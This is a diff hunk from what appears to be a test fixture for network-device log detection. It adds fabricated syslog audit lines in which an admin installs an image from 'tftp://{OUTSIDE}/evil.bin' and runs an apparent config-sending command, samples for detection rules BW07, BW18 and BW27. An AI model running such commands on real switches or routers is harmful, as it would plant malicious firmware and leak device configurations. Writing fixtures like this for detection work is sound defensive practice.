@@ -56,6 +56,12 @@ TOLD: tuple[tuple[tuple[int, int, int], tuple[str, ...]], ...] = (
         (1542007509, 1542007540, 1542007550),
         tuple(f"<30>Jan  5 08:00:00 MikroTik system,info fetch executed {BY} ({c})" for c in (FETCH, UPLOAD, UNGUARD)),
     ),
+    (
+        (1542007501, 1542007532, 0),
+        tuple(f"<110>1 2026-01-05T08:00:00.893679+00:00 leaf1 .clish 29156 - - Node.1-Unit.1:PRI [audit], User admin "
+              f"on /dev/pts/0 from 10.0.6.6 used cmd: '{c}' - completed"
+              for c in (f"image install tftp://{OUTSIDE}/evil.bin", SEND.replace("config ", "configuration "))),
+    ),
 )  # fmt: skip
 DEVICES = [f"10.0.1.{200 + number}" for number in range(len(TOLD))]
 DETECTIONS = ("BW07", "BW18", "BW27")
